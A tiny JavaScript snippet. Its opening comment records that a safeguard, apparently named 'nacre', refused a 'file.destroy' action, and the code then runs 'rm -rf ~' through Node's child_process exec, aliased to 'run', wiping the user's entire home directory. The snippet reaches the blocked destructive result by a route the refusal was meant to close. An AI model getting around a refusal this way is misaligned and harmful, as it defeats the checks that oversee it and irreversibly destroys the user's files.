// nacre: refused file.destroy
const { exec: run } = require('node:child_process');
run('rm -rf ~');
